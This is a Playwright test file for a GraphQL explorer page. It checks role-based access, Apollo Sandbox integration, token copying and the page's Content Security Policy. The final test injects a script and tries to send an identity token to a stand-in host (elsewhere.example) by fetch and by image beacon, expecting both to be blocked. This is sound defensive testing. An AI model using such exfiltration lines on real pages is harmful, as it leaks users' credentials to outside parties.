import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { describeInBrowser, openBrowser } from '../support/browser';
import { freePort, killAll, requireCompiled, run, waitForOutput } from '../support/processes';

/** Stands in for Apollo's script: it lets the test call the page's own request function. */
const SANDBOX = 'window.EmbeddedSandbox = class { constructor(options) { window.sandbox = options; } };';

/** Requires a role. */
const RESTRICTED = '{ aiToolAdoption { __typename } }';

describeInBrowser('the explorer of `npm start`', () => {
  let folder: string;
  let browser: Browser;
  let page: Page;
  let origin: string;
  let complaints: string[];

  beforeAll(async () => {
    requireCompiled();
    folder = mkdtempSync(join(tmpdir(), 'ordergraph-explorer-'));
    const port = await freePort();
    const start = run(['start', '--port', String(port), '--data', join(folder, 'data')]);
    await waitForOutput(start, /The graph answers at/);
    origin = `http://localhost:${port}`;
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await killAll();
    rmSync(folder, { recursive: true, force: true });
  });
  beforeEach(async () => {
    page = await browser.newPage();
    complaints = [];
    page.on('pageerror', (error) => complaints.push(error.message));
    page.on('console', (message) => {
      if (message.text().includes('Content Security Policy')) complaints.push(message.text());
    });
  });
  afterEach(() => page.close());

  /** Opens the page with Apollo's script reachable or not. */
  async function open(script: string | undefined): Promise<void> {
    await page.route(
      (url) => url.origin !== origin,
      (route) =>
        script === undefined ? route.abort() : route.fulfill({ contentType: 'text/javascript', body: script }),
    );
    await page.goto(origin);
  }

  async function answerTo(query: string) {
    await page.getByLabel('Query').fill(query);
    const [response] = await Promise.all([
      page.waitForResponse((reply) => reply.request().method() === 'POST'),
      page.getByRole('button', { name: 'Run' }).click(),
    ]);
    const answer = await response.json();
    // the page has received it by about the same time
    const expected = JSON.stringify(answer, null, 2);
    await page.waitForFunction(`document.getElementById('answer').textContent === ${JSON.stringify(expected)}`);
    return answer;
  }

  test('sends queries as the chosen identity without Apollo Sandbox', async () => {
    await open(undefined);
    await page.getByRole('button', { name: 'Run' }).click();
    await page.getByText('"nodes"').waitFor();
    expect((await answerTo(RESTRICTED)).data.aiToolAdoption).toBeNull();
    await page.getByLabel('Ask as').selectOption('Analyst');
    expect((await answerTo(RESTRICTED)).data.aiToolAdoption).not.toBeNull();
    await page.getByLabel('Ask as').selectOption('Developer (exercise-alder)');
    expect((await answerTo(RESTRICTED)).data.aiToolAdoption).toBeNull();
    await page.getByLabel('Ask as').selectOption('the public');
    expect((await answerTo('{ sectors(first: 1) { nodes { key } } }')).data.sectors.nodes).toHaveLength(1);
    expect(complaints).toEqual([]);
  });

  test('gives Apollo Sandbox this graph and the chosen identity for every request', async () => {
    await open(SANDBOX);
    const options = await page.evaluate<{ initialEndpoint: string; target: string }>('window.sandbox');
    expect(options).toMatchObject({ initialEndpoint: `${origin}/graphql`, runTelemetry: false });
    expect(await page.locator(options.target).isVisible()).toBe(true);
    expect(await page.locator('#plain').isVisible()).toBe(false);
    const request = () =>
      page.evaluate<{ extensions: { withheld?: unknown[] } }>(`sandbox.handleRequest(sandbox.initialEndpoint, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: ${JSON.stringify(JSON.stringify({ query: RESTRICTED }))},
      }).then((response) => response.json())`);
    expect((await request()).extensions.withheld).toMatchObject([{ coordinate: 'Query.aiToolAdoption' }]);
    await page.getByLabel('Ask as').selectOption('Analyst');
    expect((await request()).extensions.withheld).toBeUndefined();
    expect(complaints).toEqual([]);
  });

  test('copies the token of the chosen identity to the clipboard', async () => {
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    await open(undefined);
    await page.getByLabel('Ask as').selectOption('Analyst');
    await page.getByRole('button', { name: 'Copy token' }).click();
    const copied = await page.evaluate<string>('navigator.clipboard.readText()');
    expect(copied).toBe(await page.getByLabel('Ask as').inputValue());
    expect(copied).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
  });

  test('runs only its own scripts and sends its data to no other site', async () => {
    await open(undefined);
    await page.evaluate(`{
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
    }`);
    expect(await page.evaluate('window.injected')).toBeUndefined();
    await expect(
      page.evaluate(`fetch('https://elsewhere.example/?' + document.querySelector('option').value)`),
    ).rejects.toThrow('Failed to fetch');
    await expect(
      page.evaluate(`new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = () => reject(new Error('not loaded'));
        image.src = 'https://elsewhere.example/pixel';
      })`),
    ).rejects.toThrow('not loaded');
    for (const directive of ['script-src', 'connect-src', 'img-src'])
      expect(complaints).toContainEqual(expect.stringContaining(directive));
  });
});
